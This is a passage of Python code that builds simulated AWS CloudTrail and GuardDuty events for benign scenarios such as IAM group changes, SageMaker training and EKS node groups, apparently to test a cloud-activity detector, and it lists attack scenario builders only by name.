                        identity=ADMIN_ROLE,
                        region="us-east-1",
                    ),
                    ct(
                        "AddUserToGroup",
                        "iam",
                        {"userName": "hanako", "groupName": "developers"},
                        identity=ADMIN_ROLE,
                        region="us-east-1",
                    ),
                ],
            ),
            Step(
                "GuardDuty low-severity port probe",
                "-",
                [guardduty_finding(c, "Recon:EC2/PortProbeUnprotectedPort", 2.0, tokyo, "Unprotected port probed")],
            ),
        ],
    )
    science = Scenario(
        "data_science_team",
        "A data scientist's notebook, a small training job, a build and a node group",
        "-",
        False,
        [
            Step(
                "Notebook ml.t3.medium + training 2 x ml.m5.xlarge",
                "-",
                [
                    ct(
                        "CreateNotebookInstance",
                        "sagemaker",
                        {"notebookInstanceName": "eda", "instanceType": "ml.t3.medium"},
                    ),
                    ct(
                        "CreateTrainingJob",
                        "sagemaker",
                        {
                            "trainingJobName": "churn-3",
                            "resourceConfig": {"instanceType": "ml.m5.xlarge", "instanceCount": 2},
                        },
                    ),
                ],
            ),
            Step(
                "CodeBuild StartBuild (small) + EKS node group m5.large max 10",
                "-",
                [
                    ct("StartBuild", "codebuild", {"projectName": "api", "sourceVersion": "refs/heads/main"}),
                    ct(
                        "CreateNodegroup",
                        "eks",
                        {
                            "name": "prod",
                            "nodegroupName": "web",
                            "instanceTypes": ["m5.large"],
                            "scalingConfig": {"minSize": 2, "maxSize": 10, "desiredSize": 2},
                        },
                    ),
                ],
            ),
        ],
    )
    return [deploy, scale_out, pipeline, admin, science]


def attack_scenarios() -> list[Scenario]:
    return [nov2025_campaign(), meson_campaign(), unused_region_gpu(), blinding_campaign(), beyond_ec2_campaign()]


def all_scenarios() -> list[Scenario]:
    return attack_scenarios() + benign_scenarios()
